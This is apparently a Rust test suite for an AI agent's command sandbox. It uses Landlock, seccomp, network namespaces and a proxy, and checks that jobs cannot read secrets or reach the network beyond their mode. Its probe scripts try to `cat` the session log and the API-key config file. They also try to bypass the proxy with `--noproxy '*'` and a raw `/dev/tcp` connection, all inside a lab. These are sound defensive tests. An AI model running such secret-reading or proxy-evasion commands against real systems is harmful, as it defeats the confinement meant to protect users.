        let text = format!(
            "[agent]\nworkspace = \"{}\"\n[provider]\napi_key = \"{SECRET_IN_CONFIG}\"\n[daemon]\nstate_dir = \"{}\"\n",
            workspace.display(),
            state.display()
        );
        std::fs::write(&config, text).unwrap();
        Layout { home: home.to_path_buf(), config, workspace, state }
    }

    /// `bramble ARGS` as the user of this layout: success and stdout + stderr.
    async fn bramble(&self, args: &[&str], env: &[(&str, &str)]) -> (bool, String) {
        run_bramble(&self.home, &self.config, args, env).await
    }

    /// Run `command` as an exec job; its report.
    async fn exec(&self, command: &str) -> String {
        let (ok, out) = self.bramble(&["cron", "add", "--every", "1h", "--exec", command, "probe"], &[]).await;
        assert!(ok, "{out}");
        let (_, out) = self.bramble(&["cron", "run", "probe"], &[]).await;
        let (ok, removed) = self.bramble(&["cron", "remove", "probe"], &[]).await;
        assert!(ok, "{removed}");
        out
    }

    /// A command writes the workspace, and reads neither the state nor the config.
    async fn assert_works_and_hides(&self, what: &str) {
        let cmd = format!(
            "echo kept > note.txt && cat note.txt; cat {s}/session.jsonl {c}; ls -a {s}",
            s = self.state.display(),
            c = self.config.display()
        );
        let out = self.exec(&cmd).await;
        assert!(out.contains("kept\n"), "{what}: the command did not run or write:\n{out}");
        assert!(!out.contains(SECRET_IN_STATE) && !out.contains(SECRET_IN_CONFIG), "{what}: a secret leaked:\n{out}");
        assert!(!out.contains("session.jsonl\n"), "{what}: the state directory is visible:\n{out}");
        assert_eq!(std::fs::read_to_string(self.workspace.join("note.txt")).unwrap(), "kept\n", "{what}");
        let (ok, status) = self.bramble(&["status"], &[]).await;
        assert!(ok, "{status}");
        let line = status.lines().find(|l| l.starts_with("sandbox:")).unwrap_or_default();
        assert!(!line.contains("FAILED"), "{what}: the probe's run of this layout failed: {line}");
    }
}

/// A directory on tmpfs, as a Pi with log2ram, an overlay root or state in
/// `/dev/shm` has. Fails loudly where `/dev/shm` is not tmpfs.
fn tmpfs_dir() -> tempfile::TempDir {
    let mounts = std::fs::read_to_string("/proc/self/mounts").unwrap();
    let shm =
        mounts.lines().filter_map(|l| l.split(' ').nth(1).zip(l.split(' ').nth(2))).rfind(|(m, _)| *m == "/dev/shm");
    assert_eq!(shm.map(|(_, fs)| fs), Some("tmpfs"), "these tests need /dev/shm on tmpfs:\n{mounts}");
    let dir = tempfile::tempdir_in("/dev/shm").unwrap();
    let mode = <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o755);
    std::fs::set_permissions(dir.path(), mode).unwrap();
    dir
}

#[tokio::test]
async fn the_default_layout_under_the_users_home_works_and_hides() {
    // Outside systemd everything is under the home, which commands must not see:
    // ~/.config/bramble, ~/.local/state/bramble, ~/.local/share/bramble/workspace.
    require_fs_layer(&layers());
    let tmp = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let home = tmp.path().join("home");
    let layout = Layout::new(
        &home,
        home.join(".config/bramble/config.toml"),
        home.join(".local/share/bramble/workspace"),
        home.join(".local/state/bramble"),
    );
    std::fs::write(home.join(".profile"), "export KEY=home-secret\n").unwrap();
    layout.assert_works_and_hides("the home layout").await;
    let out = layout.exec(&format!("cat {}/.profile; echo end", home.display())).await;
    assert!(out.contains("end") && !out.contains("home-secret"), "{out}");
}

#[tokio::test]
async fn workspaces_and_state_on_tmpfs_work_and_hide() {
    // Every exec once failed here: a hidden path under /dev made Landlock's
    // rules follow /dev/stdin into a pipe ("File descriptor in bad state").
    require_fs_layer(&layers());
    let ram = tmpfs_dir();
    let disk = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let (r, d) = (ram.path(), disk.path());
    let layouts = [
        ("workspace and state on tmpfs", Layout::new(d, r.join("a/config.toml"), r.join("a/ws"), r.join("a/state"))),
        ("state on tmpfs", Layout::new(d, d.join("b/config.toml"), d.join("b/ws"), r.join("b/state"))),
        ("workspace on tmpfs", Layout::new(d, d.join("c/config.toml"), r.join("c/ws"), d.join("c/state"))),
        ("workspace inside the state dir on tmpfs", {
            Layout::new(d, r.join("d/config.toml"), r.join("d/state/workspace"), r.join("d/state"))
        }),
    ];
    for (what, layout) in &layouts {
        layout.assert_works_and_hides(what).await;
    }
}

/// Run the real binary's `status` under a seccomp filter that refuses
/// `landlock_create_ruleset` with `errno` — what a container's allow list does.
fn status_with_landlock_refused(errno: i32) -> String {
    use std::os::unix::process::CommandExt;
    let home = TestHome::new("openai", "http://127.0.0.1:9/v1", "", "", "");
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_bramble"));
    cmd.args(["--config", home.config.to_str().unwrap(), "status"]).env_clear().env("HOME", home.path());
    // Classic BPF: load the syscall number; landlock_create_ruleset → ERRNO(errno); else allow.
    let nr = libc::SYS_landlock_create_ruleset as u32;
    let filter = [
        libc::sock_filter { code: (libc::BPF_LD | libc::BPF_W | libc::BPF_ABS) as u16, jt: 0, jf: 0, k: 0 },
        libc::sock_filter { code: (libc::BPF_JMP | libc::BPF_JEQ | libc::BPF_K) as u16, jt: 0, jf: 1, k: nr },
        libc::sock_filter {
            code: (libc::BPF_RET | libc::BPF_K) as u16,
            jt: 0,
            jf: 0,
            k: libc::SECCOMP_RET_ERRNO | errno as u32,
        },
        libc::sock_filter { code: (libc::BPF_RET | libc::BPF_K) as u16, jt: 0, jf: 0, k: libc::SECCOMP_RET_ALLOW },
    ];
    // SAFETY: between fork and exec only two prctl calls on memory the child owns (a copy of `filter`).
    unsafe {
        cmd.pre_exec(move || {
            let prog = libc::sock_fprog { len: filter.len() as u16, filter: filter.as_ptr() as *mut libc::sock_filter };
            if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0
                || libc::prctl(libc::PR_SET_SECCOMP, libc::SECCOMP_MODE_FILTER, &prog as *const _ as usize, 0, 0) != 0
            {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.lines().find(|l| l.starts_with("sandbox:")).unwrap_or_else(|| panic!("{text}")).to_string()
}

#[test]
fn landlock_blocked_by_a_filter_is_not_blamed_on_the_kernel() {
    let line = status_with_landlock_refused(libc::EPERM);
    assert!(line.contains("Landlock BLOCKED by a seccomp filter"), "{line}");
    assert!(!line.contains("no Landlock in this kernel"), "{line}");
    let line = status_with_landlock_refused(libc::ENOSYS);
    assert!(line.contains("no Landlock in this kernel"), "{line}");
    let line = status_with_landlock_refused(libc::EOPNOTSUPP);
    assert!(line.contains("not enabled at boot"), "{line}");
}

/// Two network namespaces made with `ip netns` for [`exec_network_modes_reach_only_what_they_allow`]:
/// "host", where bramble runs (its own LAN address 192.168.77.1, a service on its
/// loopback), and "world" behind its veth (a LAN device at 192.168.77.2, and
/// 93.184.216.34 standing in for a public server, routed through it). Nothing
/// here touches the machine's real network.
struct NetLab {
    host: String,
    world: String,
    stop: Arc<std::sync::atomic::AtomicBool>,
}

impl NetLab {
    /// `None` (the test is skipped, and says why) without root or `ip`.
    fn new() -> Option<NetLab> {
        if !nix::unistd::geteuid().is_root() {
            eprintln!("skipped: making network namespaces needs root");
            return None;
        }
        // Tests run side by side in one process: each lab its own names.
        static LABS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let id = format!("{}-{}", std::process::id(), LABS.fetch_add(1, std::sync::atomic::Ordering::SeqCst));
        let lab = NetLab {
            host: format!("bramble-h{id}"),
            world: format!("bramble-w{id}"),
            stop: Arc::new(std::sync::atomic::AtomicBool::new(false)),
        };
        assert!(
            std::process::Command::new("curl").arg("--version").output().is_ok(),
            "this test fetches with curl: apt-get install curl"
        );
        let (h, w) = (lab.host.as_str(), lab.world.as_str());
        let steps: [&[&str]; 11] = [
            &["netns", "add", h],
            &["netns", "add", w],
            &["-n", h, "link", "set", "lo", "up"],
            &["-n", w, "link", "set", "lo", "up"],
            &["-n", h, "link", "add", "vh", "type", "veth", "peer", "name", "vw", "netns", w],
            &["-n", h, "addr", "add", "192.168.77.1/24", "dev", "vh"],
            &["-n", w, "addr", "add", "192.168.77.2/24", "dev", "vw"],
            &["-n", h, "link", "set", "vh", "up"],
            &["-n", w, "link", "set", "vw", "up"],
            &["-n", w, "addr", "add", "93.184.216.34/32", "dev", "lo"],
            &["-n", h, "route", "add", "default", "via", "192.168.77.2"],
        ];
        for step in steps {
            let out = std::process::Command::new(NetLab::ip())
                .args(step)
                .output()
                .expect("iproute2's `ip` (apt-get install iproute2)");
            assert!(out.status.success(), "ip {step:?}: {}", String::from_utf8_lossy(&out.stderr));
        }
        Some(lab)
    }

    /// `ip`, also where `/usr/sbin` is not on `PATH`.
    fn ip() -> &'static str {
        ["/usr/sbin/ip", "/sbin/ip", "/usr/bin/ip", "/bin/ip"]
            .into_iter()
            .find(|p| Path::new(p).exists())
            .unwrap_or("ip")
    }

    /// Move the calling thread into namespace `name`.
    fn enter(name: &str) {
        let ns = std::fs::File::open(format!("/run/netns/{name}")).unwrap();
        nix::sched::setns(ns, nix::sched::CloneFlags::CLONE_NEWNET).unwrap();
    }

    /// Answer every HTTP request to `addr` in namespace `ns` with `name`.
    fn serve(&self, ns: &str, addr: &str, name: &'static str) {
        let (ns, addr, stop) = (ns.to_string(), addr.to_string(), self.stop.clone());
        let (ready_tx, ready_rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            NetLab::enter(&ns);
            let listener = std::net::TcpListener::bind(&addr).unwrap();
            listener.set_nonblocking(true).unwrap();
            ready_tx.send(()).unwrap();
            while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                match listener.accept() {
                    Ok((mut conn, _)) => {
                        use std::io::{Read, Write};
                        conn.set_nonblocking(false).unwrap();
                        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
                        let mut buf = [0u8; 4096];
                        let _ = conn.read(&mut buf);
                        let body = format!("reached {name}\n");
                        let _ = write!(conn, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len());
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        ready_rx.recv().unwrap();
    }
}

/// What a net-lab script printed between its `== NAME` line and the next `== `.
fn section(out: &str, name: &str) -> String {
    let start = out.find(&format!("== {name}\n")).unwrap_or_else(|| panic!("no {name} in {out}"));
    let rest = &out[start + name.len() + 4..];
    rest[..rest.find("== ").unwrap_or(rest.len())].to_string()
}

/// A DNS server for the lab (RFC 1035 wire format, UDP): answers A queries for
/// the names in `names` and "no data" for any other question. A test double:
/// the proxy's resolver is glibc's, reading the machine's resolv.conf.
fn serve_dns(lab: &NetLab, addr: &'static str, names: &'static [(&'static str, [u8; 4])]) {
    let (ns, stop) = (lab.world.clone(), lab.stop.clone());
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        NetLab::enter(&ns);
        let sock = std::net::UdpSocket::bind(addr).unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
        ready_tx.send(()).unwrap();
        let mut buf = [0u8; 512];
        while !stop.load(std::sync::atomic::Ordering::SeqCst) {
            let Ok((n, from)) = sock.recv_from(&mut buf) else { continue };
            let q = &buf[..n];
            // Header (12 bytes), then QNAME as labels, QTYPE, QCLASS.
            let (mut name, mut i) = (Vec::new(), 12);
            while i < n && q[i] != 0 {
                let len = q[i] as usize;
                name.push(String::from_utf8_lossy(&q[i + 1..(i + 1 + len).min(n)]).to_ascii_lowercase());
                i += 1 + len;
            }
            if i + 5 > n {
                continue;
            }
            let qtype = u16::from_be_bytes([q[i + 1], q[i + 2]]);
            let question = &q[12..i + 5];
            let found = names.iter().find(|(n, _)| *n == name.join(".")).map(|(_, a)| *a);
            let answer = found.filter(|_| qtype == 1);
            let mut r = Vec::with_capacity(64);
            r.extend_from_slice(&q[..2]); // ID
            let rcode = if found.is_some() { 0 } else { 3 }; // NXDOMAIN for unknown names
            r.extend_from_slice(&[0x81, 0x80 | rcode, 0, 1, 0, u8::from(answer.is_some()), 0, 0, 0, 0]);
            r.extend_from_slice(question);
            if let Some(a) = answer {
                // Name by pointer to the question, A, IN, TTL 60, 4 bytes.
                r.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
                r.extend_from_slice(&a);
            }
            let _ = sock.send_to(&r, from);
        }
    });
    ready_rx.recv().unwrap();
}

/// The proxy resolves names under its own Landlock rules (the resolver's files
/// and nothing else): through `/etc/hosts` and through the DNS server
/// `resolv.conf` names, and judges the addresses the names have. The thread
/// that runs the command gets a mount namespace of its own in which the lab's
/// `hosts`, `nsswitch.conf` and `resolv.conf` are bound over the machine's.
#[test]
fn the_proxy_resolves_names_from_hosts_and_dns() {
    let Some(lab) = NetLab::new() else { return };
    let p = layers();
    assert!(p.jail_available() && p.proxy.is_ok(), "as root the jail and its proxy work: {p:?}");
    lab.serve(&lab.world, "93.184.216.34:8080", "public-site");
    lab.serve(&lab.world, "192.168.77.2:8080", "lan-device");
    serve_dns(
        &lab,
        "93.184.216.34:53",
        &[("public.dns.test", [93, 184, 216, 34]), ("lan.dns.test", [192, 168, 77, 2])],
    );
    let files = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let path = files.path().join(name);
        std::fs::write(&path, text).unwrap();
        path
    };
    let binds = [
        (write("hosts", "127.0.0.1 localhost\n93.184.216.34 public.hosts.test\n"), "/etc/hosts"),
        (write("nsswitch.conf", "hosts: files dns\n"), "/etc/nsswitch.conf"),
        (write("resolv.conf", "nameserver 93.184.216.34\noptions timeout:2 attempts:1\n"), "/etc/resolv.conf"),
    ];
    let host = lab.host.clone();
    let out = std::thread::spawn(move || {
        use nix::mount::{mount, MsFlags};
        NetLab::enter(&host);
        nix::sched::unshare(nix::sched::CloneFlags::CLONE_FS | nix::sched::CloneFlags::CLONE_NEWNS).unwrap();
        mount(None::<&str>, "/", None::<&str>, MsFlags::MS_REC | MsFlags::MS_PRIVATE, None::<&str>).unwrap();
        for (from, to) in &binds {
            mount(Some(from), *to, None::<&str>, MsFlags::MS_BIND, None::<&str>).unwrap();
        }
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(async {
            let s = Setup::new(ExecConfig { network: Network::INTERNET, ..ExecConfig::default() });
            let mut script = String::new();
            for url in [
                "http://public.hosts.test:8080/",
                "http://public.dns.test:8080/",
                "http://lan.dns.test:8080/",
                "http://nowhere.dns.test:8080/",
            ] {
                script
                    .push_str(&format!("echo '== {url}'; curl -sS -m 10 -x \"$http_proxy\" --noproxy '' {url} 2>&1; "));
            }
            script.push_str("echo '== end'");
            s.exec(&script).await.text
        })
    })
    .join()
    .unwrap();
    let section = |url: &str| section(&out, url);
    assert!(section("http://public.hosts.test:8080/").contains("reached public-site"), "{out}");
    assert!(section("http://public.dns.test:8080/").contains("reached public-site"), "{out}");
    // A name is judged by its address: this one is on the LAN.
    let lan = section("http://lan.dns.test:8080/");
    assert!(!lan.contains("reached") && lan.contains("local network"), "{out}");
    assert!(section("http://nowhere.dns.test:8080/").contains("cannot resolve nowhere.dns.test"), "{out}");
}

impl Drop for NetLab {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        for ns in [&self.host, &self.world] {
            let _ = std::process::Command::new(NetLab::ip()).args(["netns", "del", ns]).status();
        }
    }
}

/// `[exec] network`: each mode reaches exactly what it names, enforced by the
/// command's own network namespace (a direct connection has no route) and
/// the proxy's judgement of every address (loopback and this machine's own
/// LAN address never, the LAN only with "lan", public only with "internet").
#[test]
fn exec_network_modes_reach_only_what_they_allow() {
    let Some(lab) = NetLab::new() else { return };
    let p = layers();
    assert!(p.jail_available() && p.proxy.is_ok(), "as root the jail and its proxy work: {p:?}");
    lab.serve(&lab.world, "93.184.216.34:8080", "public-site");
    lab.serve(&lab.world, "192.168.77.2:8080", "lan-device");
    lab.serve(&lab.host, "192.168.77.1:8081", "host-lan-address");
    lab.serve(&lab.host, "127.0.0.1:8080", "host-loopback");
    const TARGETS: [(&str, &str); 4] = [
        ("public-site", "http://93.184.216.34:8080/"),
        ("lan-device", "http://192.168.77.2:8080/"),
        ("host-lan-address", "http://192.168.77.1:8081/"),
        ("host-loopback", "http://127.0.0.1:8080/"),
    ];
    // Every target through the proxy the command was given (explicitly, so that
    // no_proxy's loopback entry does not skip it), then the public one directly.
    let mut script = String::new();
    for (name, url) in TARGETS {
        script.push_str(&format!(
            "echo '== {name}'; curl -sS -m 5 ${{http_proxy:+-x $http_proxy --noproxy ''}} {url} 2>&1; "
        ));
    }
    script.push_str(
        "echo '== direct'; curl -sS -m 5 --noproxy '*' http://93.184.216.34:8080/ 2>&1; \
         bash -c 'exec 3<>/dev/tcp/93.184.216.34/8080' 2>&1; echo '== end'",
    );
    let host = lab.host.clone();
    let results = std::thread::spawn(move || {
        NetLab::enter(&host);
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(async {
            let mut results = Vec::new();
            for network in [
                Network::INTERNET,
                Network::Filtered { internet: false, lan: true },
                Network::Filtered { internet: true, lan: true },
                Network::All,
                Network::None,
                Network::Auto,
            ] {
                let s = Setup::new(ExecConfig { network, ..ExecConfig::default() });
                results.push((network, s.exec(&script).await.text));
            }
            results
        })
    })
    .join()
    .unwrap();
    for (network, out) in results {
        let reached = |name: &str| section(&out, name).contains(&format!("reached {name}"));
        let (public, lan, all) = match network {
            Network::Filtered { internet, lan } => (internet, lan, false),
            Network::Auto => (true, false, false), // "internet": the jail is there
            Network::All => (true, true, true),
            Network::None => (false, false, false),
        };
        assert_eq!(reached("public-site"), public, "{network:?}: {out}");
        assert_eq!(reached("lan-device"), lan, "{network:?}: {out}");
        assert_eq!(reached("host-lan-address"), all, "{network:?}: {out}");
        assert_eq!(reached("host-loopback"), all, "{network:?}: {out}");
        let direct = section(&out, "direct").contains("reached public-site");
        assert_eq!(direct, all, "{network:?}: no way around the proxy: {out}");
        if let Network::Filtered { .. } | Network::Auto = network {
            // The model reads why, and what would allow it.
            assert!(section(&out, "host-loopback").contains("this machine itself"), "{out}");
            assert!(section(&out, "host-lan-address").contains("this machine itself"), "{out}");
            let refusal = if public { "local network" } else { "public address" };
            let refused = if public { "lan-device" } else { "public-site" };
            if !(public && lan) {
                assert!(section(&out, refused).contains(refusal), "{network:?}: {out}");
            }
            assert!(section(&out, "direct").contains("unreachable"), "{network:?}: {out}");
        }
    }
}

// ---------------------------------------------------------------- this board and its links (issue 36)

/// Adds IPv6 and this board's own public addresses to a [`NetLab`]: the host
/// (the board) holds the public IPv4 81.2.69.160 and the global IPv6
/// 2001:470:77::1/64 on its link; the world has 2001:470:77::2 on that same
/// /64 (a device on the board's own link, with a global address like any
/// server's) and 2001:470:99::1 behind it (a public server, off the link,
/// routed through it).
fn lab_with_the_boards_links(lab: &NetLab) {
    let (h, w) = (lab.host.as_str(), lab.world.as_str());
    let steps: [&[&str]; 5] = [
        &["-n", h, "addr", "add", "2001:470:77::1/64", "dev", "vh", "nodad"],
        &["-n", w, "addr", "add", "2001:470:77::2/64", "dev", "vw", "nodad"],
        &["-n", w, "addr", "add", "2001:470:99::1/128", "dev", "lo"],
        &["-n", h, "-6", "route", "add", "default", "via", "2001:470:77::2"],
        &["-n", h, "addr", "add", "81.2.69.160/32", "dev", "vh"],
    ];
    for step in steps {
        let out = std::process::Command::new(NetLab::ip()).args(step).output().unwrap();
        assert!(out.status.success(), "ip {step:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
    lab.serve(&lab.world, "[2001:470:77::2]:8080", "link-device");
    lab.serve(&lab.world, "[2001:470:99::1]:8080", "public-v6-site");
    lab.serve(&lab.world, "93.184.216.34:8080", "public-site");
    // A service of the board's listening on all its interfaces (IPv4 too).
    lab.serve(&lab.host, "[::]:8082", "board-service");
}

/// `web_fetch` on the board (in the lab's host namespace) for each URL: the tool's text.
fn web_fetch_on_the_board(lab: &NetLab, urls: &'static [&'static str]) -> Vec<(&'static str, String)> {
    let host = lab.host.clone();
    std::thread::spawn(move || {
        NetLab::enter(&host);
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(async {
            bramble::install_crypto();
            let cfg = WebConfig { timeout: bramble::config::Dur(Duration::from_secs(5)), ..WebConfig::default() };
            let mut registry = ToolRegistry::new(10_000);
            registry.register(Arc::new(WebFetch::new(&cfg, Arc::new(bramble::tools::web::GuardedHttp::new(&cfg)))));
            let mut out = Vec::new();
            for url in urls {
                let args = serde_json::json!({ "url": url }).to_string();
                let call = ToolCall::new("w", "web_fetch", args);
                out.push((*url, registry.execute(&call, &ToolContext::detached("security")).await.text));
            }
            out
        })
    })
    .join()
    .unwrap()
}

/// The board's own public IPv4 and global IPv6 addresses are this machine,
/// like loopback: a service listening on all interfaces is not reached
/// through them. A device on the board's own /64 is the LAN although its
/// address is global; a public server off the link stays reachable.
#[test]
fn web_fetch_judges_the_boards_own_addresses_and_its_link_by_what_they_are() {
    let Some(lab) = NetLab::new() else { return };
    lab_with_the_boards_links(&lab);
    let out = web_fetch_on_the_board(
        &lab,
        &[
            "http://81.2.69.160:8082/",
            "http://[2001:470:77::1]:8082/",
            "http://[2001:470:77::2]:8080/",
            "http://[2001:470:99::1]:8080/",
            "http://93.184.216.34:8080/",
        ],
    );
    for (url, text) in &out[..2] {
        assert!(!text.contains("reached") && text.contains("this machine's own address"), "{url}: {text}");
    }
    let (url, text) = &out[2];
    assert!(!text.contains("reached") && text.contains("local network"), "{url}: {text}");
    assert!(text.contains("[web] allow_private"), "{url}: the model reads what would allow it: {text}");
    assert!(out[3].1.contains("reached public-v6-site"), "{out:?}");
    assert!(out[4].1.contains("reached public-site"), "{out:?}");
}

/// `[exec] network`: a device on the board's own IPv6 link is the LAN whatever
/// its address class ("internet" refuses it, "lan" reaches it), a public
/// server off the link is the internet, and the board's own global and
/// public addresses are this machine for both.
#[test]
fn exec_network_judges_the_boards_link_by_what_it_is() {
    let Some(lab) = NetLab::new() else { return };
    let p = layers();
    assert!(p.jail_available() && p.proxy.is_ok(), "as root the jail and its proxy work: {p:?}");
    lab_with_the_boards_links(&lab);
    const TARGETS: [(&str, &str); 4] = [
        ("link-device", "http://[2001:470:77::2]:8080/"),
        ("public-v6-site", "http://[2001:470:99::1]:8080/"),
        ("board-v4", "http://81.2.69.160:8082/"),
        ("board-v6", "http://[2001:470:77::1]:8082/"),
    ];
    let mut script = String::new();
    for (name, url) in TARGETS {
        script.push_str(&format!("echo '== {name}'; curl -gsS -m 5 -x \"$http_proxy\" --noproxy '' {url} 2>&1; "));
    }
    script.push_str("echo '== end'");
    let host = lab.host.clone();
    let results = std::thread::spawn(move || {
        NetLab::enter(&host);
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(async {
            let mut results = Vec::new();
            for network in [Network::INTERNET, Network::Filtered { internet: false, lan: true }] {
                let s = Setup::new(ExecConfig { network, ..ExecConfig::default() });
                results.push((network, s.exec(&script).await.text));
            }
            results
        })
    })
    .join()
    .unwrap();
    for (network, out) in results {
        let Network::Filtered { internet, lan } = network else { unreachable!() };
        let link = section(&out, "link-device");
        assert_eq!(link.contains("reached link-device"), lan, "{network:?}: {out}");
        let public = section(&out, "public-v6-site");
        assert_eq!(public.contains("reached public-v6-site"), internet, "{network:?}: {out}");
        if internet {
            assert!(link.contains("local network"), "{network:?}: {out}");
        } else {
            assert!(public.contains("public address"), "{network:?}: {out}");
        }
        for own in ["board-v4", "board-v6"] {
            let text = section(&out, own);
            assert!(!text.contains("reached") && text.contains("this machine itself"), "{network:?}: {out}");
        }
    }
}
